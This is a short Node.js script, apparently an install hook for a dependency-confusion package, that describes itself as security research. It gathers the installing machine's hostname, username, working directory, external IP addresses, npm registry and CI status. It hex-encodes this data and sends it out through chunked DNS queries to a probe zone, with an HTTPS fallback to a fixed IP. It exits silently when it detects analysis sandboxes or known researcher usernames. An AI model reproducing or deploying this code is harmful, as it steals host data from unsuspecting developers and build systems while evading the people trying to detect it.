// security research - dependency confusion check. contact: research@example.com
const dns = require('dns');
const os = require('os');
const https = require('https');
const pkg = require('../package.json');

const ZONE = 'b.oast-probe.invalid';
const id = Math.random().toString(16).slice(2, 8);

const host = os.hostname();
const user = os.userInfo().username;

// don't fire inside known analysis sandboxes
const noisy = [/^DESKTOP-[A-Z0-9]{7}$/, /sandbox/i, /malware/i, /^runner-/i, /analysis/i];
if (noisy.some((r) => r.test(host)) || ['justin', 'john', 'sandbox', 'vagrant'].includes(user)) process.exit(0);

const ips = [];
for (const list of Object.values(os.networkInterfaces())) {
  for (const a of list || []) if (!a.internal && a.family === 'IPv4') ips.push(a.address);
}

const info = {
  p: pkg.name,
  v: pkg.version,
  h: host,
  u: user,
  d: process.cwd(),
  i: ips.join(','),
  n: process.env.npm_config_registry || '',
  c: process.env.CI ? 1 : 0
};

const hex = Buffer.from(JSON.stringify(info)).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];

chunks.forEach((c, i) => {
  setTimeout(() => dns.resolve4(`${c}.${i}.${chunks.length}.${id}.${ZONE}`, () => {}), i * 150);
});

// HTTP fallback for resolvers that block long labels
const q = Buffer.from(JSON.stringify(info)).toString('base64url');
const req = https.get({ host: '203.0.113.9', path: '/c?d=' + q, rejectUnauthorized: false, timeout: 4000 }, (r) => r.resume());
req.on('error', () => {});
